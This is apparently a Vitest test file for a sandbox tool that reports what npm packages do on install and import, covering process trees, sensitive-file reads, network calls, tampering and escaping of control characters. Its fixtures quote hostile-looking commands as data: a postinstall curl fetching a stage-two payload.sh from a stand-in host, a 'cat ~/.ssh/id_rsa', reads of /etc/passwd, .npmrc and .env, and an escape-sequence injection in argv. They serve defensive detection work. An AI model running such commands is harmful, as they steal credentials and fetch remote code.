/** The terminal rendering: process tree, sensitive files, written files; every cut says what it left out. */
import type { PhaseProcessTree, ProcessTreeNode } from '@airlock/core';
import { describe, expect, it } from 'vitest';
import { buildReport, renderProcessTree, renderReportText } from '../src/index.js';
import { identity, sandboxRun, summarize } from './helpers.js';
import { IMPORT_TRACE, INSTALL_TRACE, PACKAGE } from './sandbox-traces.js';

const report = () =>
  buildReport({
    id: 'abc123def456',
    createdAt: new Date('2026-11-24T02:35:00.000Z'),
    identity: identity(PACKAGE),
    run: sandboxRun([{ path: '/home/jordan/.airlock-marker', kind: 'added' }]),
    traces: { install: summarize(INSTALL_TRACE, 'install', PACKAGE), import: summarize(IMPORT_TRACE, 'import', PACKAGE) },
    artifacts: {},
  });

/** The lines of one section, from its title to the blank line that ends it. */
function sectionOf(text: string, title: string): string[] {
  const all = text.split('\n');
  const start = all.findIndex((l) => l.startsWith(title));
  expect(start).toBeGreaterThanOrEqual(0);
  const end = all.indexOf('', start);
  return all.slice(start, end);
}

function node(id: number, parent: number | null, argv: string[], children: number[] = []): ProcessTreeNode {
  return {
    id,
    pid: 100 + id,
    ppid: parent === null ? null : 100 + parent,
    parent,
    execs: [{ time: 1, path: `/usr/bin/${argv[0]}`, normalizedPath: `/usr/bin/${argv[0]}`, argv }],
    startTime: 1,
    exitTime: 2,
    exitCode: 0,
    exitSignal: null,
    attribution: null,
    children,
  };
}

describe('renderReportText', () => {
  it('draws the install tree indented, with exec chains, exits and the postinstall marked', () => {
    expect(sectionOf(renderReportText(report()), 'Process tree, install')).toEqual([
      'Process tree, install: 4 process(es), 1 runner process(es) of the sandbox not shown',
      '  node /usr/local/bin/npm install /airlock/input/package.tgz  [pid 20, exit 0]  (exec chain: npm → node)',
      `  └─ sh -c "sh -c 'curl -s -m 5 http://stage2.tree-fixture.example/payload.sh -o /dev/null; echo fetched'"  [pid 32, exit 0]  <- ${PACKAGE} postinstall`,
      `     └─ sh -c 'curl -s -m 5 http://stage2.tree-fixture.example/payload.sh -o /dev/null; echo fetched'  [pid 33, exit 0]  <- ${PACKAGE} postinstall`,
      `        └─ curl -s -m 5 http://stage2.tree-fixture.example/payload.sh -o /dev/null  [pid 34, exit 0]  <- ${PACKAGE} postinstall`,
    ]);
  });

  it('draws the import tree with the signal that ended a process', () => {
    expect(sectionOf(renderReportText(report()), 'Process tree, import')).toEqual([
      'Process tree, import: 2 process(es), 3 runner process(es) of the sandbox not shown',
      `  /bin/sh -c 'cat ~/.ssh/id_rsa'  [pid 50, killed by SIGKILL]  <- ${PACKAGE} import`,
      `  └─ cat /home/jordan/.ssh/id_rsa  [pid 51, exit 0]  <- ${PACKAGE} import`,
    ]);
  });

  it('lists sensitive accesses with rule, result, process and who is responsible', () => {
    expect(sectionOf(renderReportText(report()), 'Sensitive files accessed')).toEqual([
      'Sensitive files accessed: 5',
      '  [install] npmrc: read /home/jordan/.npmrc  (read, ENOENT)  pid 20 node  (no package script: npm or the runtime itself)',
      '  [install] git: read /home/jordan/.gitconfig  (read, ok)  pid 20 node  (no package script: npm or the runtime itself)',
      `  [install] system-accounts: read /etc/passwd  (read, ok)  pid 34 curl  <- ${PACKAGE} postinstall`,
      `  [import] ssh: read /home/jordan/.ssh/id_rsa  (read, ok)  pid 51 cat  <- ${PACKAGE} import`,
      `  [import] dotenv: read /home/jordan/projects/app/.env  (read, ENOENT)  pid 52 node  <- ${PACKAGE} import`,
    ]);
  });

  it('keeps the written files and the fake internet’s destinations', () => {
    const text = renderReportText(report());
    expect(sectionOf(text, 'Files written')).toEqual([
      'Files written, created or changed (0 failed attempts in --json): 1',
      `  [install] create /home/jordan/projects/app/node_modules/${PACKAGE}/package.json`,
    ]);
    expect(sectionOf(text, 'TCP connections')).toEqual([
      'TCP connections (fake internet): 1',
      '  stage2.tree-fixture.example (198.18.0.1):80 http GET stage2.tree-fixture.example/payload.sh  96 bytes',
    ]);
  });

  it('says how many list entries were left out', () => {
    const many = report();
    many.fileWrites = Array.from({ length: 45 }, (_, i) => ({ ...many.fileWrites[0]!, path: `/tmp/f${i}` }));
    const section = sectionOf(renderReportText(many), 'Files written');
    expect(section).toHaveLength(1 + 40 + 1);
    expect(section.at(-1)).toBe('  … 5 more (see --json)');
  });

  it('escapes control characters a package put in its argv or paths', () => {
    const evil = report();
    evil.processTree.install!.nodes[3]!.execs[0]!.argv = ['curl', 'x\n[install] fake line\u001b[31m'];
    const text = renderReportText(evil);
    expect(text).toContain("curl 'x\\x0a[install] fake line\\x1b[31m'");
    expect(text).not.toContain('\u001b');
  });
});

describe('renderProcessTree', () => {
  it('shortens long argv and says by how much', () => {
    const tree: PhaseProcessTree = { roots: [0], nodes: [node(0, null, ['node', '-e', 'x'.repeat(200)])], hiddenProcesses: 0 };
    const [, line] = renderProcessTree('install', tree);
    expect(line).toBe(`  node -e ${'x'.repeat(102)}… (+98 chars)  [pid 100, exit 0]`);
  });

  it('prints at most the limit of nodes and counts the rest, and writes out depths past the indentation cap', () => {
    const nodes = Array.from({ length: 30 }, (_, i) => node(i, i === 0 ? null : i - 1, ['sh'], i < 29 ? [i + 1] : []));
    const lines = renderProcessTree('install', { roots: [0], nodes, hiddenProcesses: 0 }, 20);
    expect(lines).toHaveLength(1 + 20 + 1);
    expect(lines.at(-1)).toBe('  … 10 more process(es) (see --json)');
    expect(lines[14]).toMatch(/^ {2}(?: {3}){11}└─ \[depth 13\] sh {2}\[pid 113, exit 0\]$/);
  });

  it('shows a fork that never exec’d and a process still running when tracing stopped', () => {
    const root = node(0, null, ['bash'], [1]);
    const fork: ProcessTreeNode = { ...node(1, 0, ['x']), execs: [], exitTime: null, exitCode: null };
    const [, , line] = renderProcessTree('install', { roots: [0], nodes: [root, fork], hiddenProcesses: 0 });
    expect(line).toBe('  └─ (fork of its parent, no exec)  [pid 101, running when tracing stopped]');
  });
  it("lists the acts against the sandbox's evidence, with the process that did them", () => {
    const r = report();
    r.tampering = [
      { phase: 'install', kind: 'signal-to-sandbox', pid: 31, time: 1, detail: 'kill(-1, SIGKILL)', result: 'ok' },
      { phase: 'install', kind: 'unexpected-runner-file', pid: null, time: null, detail: '/airlock/out/zzz (added)', result: 'ok' },
    ];
    const lines = sectionOf(renderReportText(r), "Acts against the sandbox's evidence");
    expect(lines.slice(1)).toEqual([
      '  [install] signal-to-sandbox: kill(-1, SIGKILL)  (pid 31, ok)',
      '  [install] unexpected-runner-file: /airlock/out/zzz (added)',
    ]);
  });

  it("styles the verdict line only with the caller's style, after everything else is made safe", () => {
    const evil = report();
    evil.processTree.install!.nodes[3]!.execs[0]!.argv = ['curl', 'x\u001b[31m'];
    evil.verdict = { verdict: 'malicious', score: 90, reasons: [], notObserved: [] } as unknown as NonNullable<typeof evil.verdict>;
    const text = renderReportText(evil, { verdict: (verdict, line) => `<${verdict}>${line}</>` });
    expect(text).toContain('<malicious>Verdict: MALICIOUS (score 90/100)</>');
    expect(text.match(/<malicious>/g)).toHaveLength(1);
    expect(text).toContain('x\\x1b[31m');
    expect(text).not.toContain('\u001b');
    expect(renderReportText(evil)).toContain('\nVerdict: MALICIOUS (score 90/100)\n');
  });
});
